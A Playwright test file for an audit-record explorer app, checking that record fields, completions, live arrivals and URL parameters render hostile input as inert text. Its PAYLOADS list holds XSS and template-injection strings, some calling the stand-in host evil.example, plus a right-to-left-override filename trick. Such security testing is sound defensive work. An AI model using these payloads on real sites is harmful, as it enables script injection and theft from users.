import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { COLUMNS } from '../../src/record/columns.ts';
import { HISTORY } from '../support/seeded-history.ts';
import { useExplorer } from './support/explorer.ts';
import { HOUR } from './support/rows.ts';

const { store, read } = useExplorer();
const ID = randomUUID();
const REQUEST = randomUUID();

/** Each runs, or asks for something from elsewhere, wherever a page takes a value for markup, an address or a style. */
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(2)</script>',
  "javascript:alert(3)//'-alert(3)-'",
  '<svg/onload=fetch("https://evil.example/4")>',
  '</title><link rel=stylesheet href=https://evil.example/5.css>',
  '${alert(6)}{{constructor.constructor("alert(6)")()}}',
  'https://evil.example/7"style="background:url(https://evil.example/7)"',
];
/** What hides or reorders text: right-to-left override, zero width, tags, controls. */
const UNSEEN = '\u202Egpj.exe\u200B\u{E0041}\u0007\u001b[31m';
const HOSTILE = `${PAYLOADS.join(' ')} ${UNSEEN}`;

/** A record whose every column that can hold a text holds all of it. */
function hostileRecord(more: Record<string, unknown>): Record<string, unknown> {
  const columns = COLUMNS.map(({ name, type }) => [name, hostileValue(type)] as const).filter(
    ([, value]) => value !== undefined,
  );
  return {
    ...Object.fromEntries(columns),
    record_id: ID,
    occurred_at: '2026-11-20 12:30:00',
    recorded_at: '2026-11-20 12:30:00',
    ...more,
  };
}

function hostileValue(type: string): unknown {
  if (type.startsWith('Map')) return { [HOSTILE]: HOSTILE };
  if (type.startsWith('Array')) return [HOSTILE, HOSTILE];
  return type.includes('String') ? HOSTILE : undefined;
}

beforeAll(async () => {
  await store().client.insert({
    table: 'audit.records',
    format: 'JSONEachRow',
    values: [
      hostileRecord({}),
      // As somebody's change of a row, so that diff, timeline and history have it as well.
      hostileRecord({
        record_id: randomUUID(),
        request_id: REQUEST,
        category: 'db',
        action: 'update',
        outcome: 'success',
        db_rows: 1,
      }),
      hostileRecord({
        record_id: REQUEST,
        category: 'http',
        action: 'update',
        outcome: 'denied',
        http_status: 403,
        occurred_at: '2026-11-20 12:29:59',
      }),
      // Short enough to be completed.
      hostileRecord({
        record_id: randomUUID(),
        category: 'auth',
        action: HOSTILE,
        outcome: 'failure',
        user_agent: PAYLOADS[0],
      }),
    ],
  });
});

/** Nothing in the document has been made from a value: no element, no attribute that runs or loads. */
async function expectInert(page: Page): Promise<void> {
  const made = await page.evaluate(() =>
    [...document.querySelectorAll('*')]
      .filter((element) => {
        const attributes = [...element.attributes];
        const runs = attributes.some(
          ({ name, value }) =>
            name.startsWith('on') || (/^\s*javascript:/i.test(value) && /^(href|src|action)$/.test(name)),
        );
        const loads = attributes.some(
          ({ name, value }) =>
            /^(href|src|srcset|style)$/.test(name) &&
            value.includes('//evil.example') &&
            !value.startsWith('/'),
        );
        return (
          runs || loads || element.matches('img, iframe, object, embed, base, script:not([src="/app.js"])')
        );
      })
      .map((element) => element.outerHTML.slice(0, 120)),
  );
  expect(made).toEqual([]);
}

const seenText = (page: Page): Promise<string> => page.locator('main').innerText();

describe('a record full of attacks', () => {
  test('is text in the list, with what is unseen made visible', async () => {
    const { page } = await read(`/?${HOUR}`);
    await expect.poll(() => page.locator('.rows .row').count()).toBe(4);
    await expectInert(page);
    expect(await seenText(page)).toContain('<img src=x onerror=alert(1)>');
    const raw = await page.locator('.rows').evaluate((rows) => rows.outerHTML);
    // oxlint-disable-next-line no-control-regex -- that they are nowhere, titles included, is what is tested
    const left = [...raw.matchAll(/[\u202e\u200b\u0007\u001b\u{e0041}]/gu)];
    expect(left.map(({ index }) => raw.slice(index - 60, index + 20))).toEqual([]);
    expect(await page.locator('.rows .unseen').first().innerText()).toMatch(/^U\+/);
  });

  test('is text in every field of the detail, in diff, timeline, menu and title', async () => {
    const { page } = await read(`/?${HOUR}&record=${ID}`);
    await page.locator('.all-fields').waitFor();
    await page.getByLabel('empty ones too').check();
    await expectInert(page);
    const shown = await page.locator('.all-fields .field').allInnerTexts();
    expect(shown.filter((text) => text.includes('alert(1)')).length).toBeGreaterThan(40);
    const writing = page
      .locator('.rows .row')
      .filter({ has: page.locator('.ending', { hasText: /committed|unknown|rolled/ }) })
      .first();
    await writing.locator('.when').click();
    await page.locator('.changes summary').click();
    await page.locator('.change-table').first().waitFor();
    await expectInert(page);
    await page.locator('.detail-sentence .value').first().click();
    await page.getByRole('menu').waitFor();
    await expectInert(page);
    await page.getByRole('menuitem', { name: 'Only this' }).click();
    await expect.poll(() => page.locator('.rows .row').count()).toBeGreaterThan(0);
    await expectInert(page);
    expect(await page.title()).not.toContain('\u202e');
  });

  test('is text in the completion', async () => {
    const { page } = await read(`/?${HOUR}`);
    await page.getByRole('combobox').pressSequentially('agent:<im');
    await page.getByRole('option').first().waitFor();
    await expectInert(page);
    await page.getByRole('option').first().click();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('.rows .row').count()).toBe(1);
    await expectInert(page);
  });

  test('is text in the pages of its row and its actor', async () => {
    const name = encodeURIComponent(HOSTILE);
    const { page, open } = await read(`/object?table=${name}&id=${name}&${HOUR}`);
    await page.locator('.entry').first().waitFor();
    await expectInert(page);
    await open(`/actor?id=${name}&${HOUR}`);
    await page.locator('.card').first().waitFor();
    await expectInert(page);
  });

  test('arrives live as text', async () => {
    const { page } = await read('/?last=all');
    await expect.poll(() => page.locator('.live').innerText()).toBe('Live');
    const now = new Date().toISOString().replace('T', ' ').replace('Z', '');
    await store().client.insert({
      table: 'audit.records',
      format: 'JSONEachRow',
      values: [hostileRecord({ record_id: randomUUID(), occurred_at: now, recorded_at: now })],
    });
    await page.locator('.arrivals').click();
    await expect.poll(() => page.locator('.rows .row').count()).toBe(5);
    await expectInert(page);
  });
});

describe('an address full of attacks', () => {
  test.each(['search', 'record', 'from', 'last', 'zone'])('in %s shows text', async (name) => {
    const query = new URLSearchParams({ from: HISTORY.from, to: HISTORY.to, [name]: HOSTILE });
    const { page } = await read(`/?${query}`, { expected: /status of 40[04]/ });
    await page.locator('.note, .rows .row, .search-error').first().waitFor();
    await expectInert(page);
  });
});
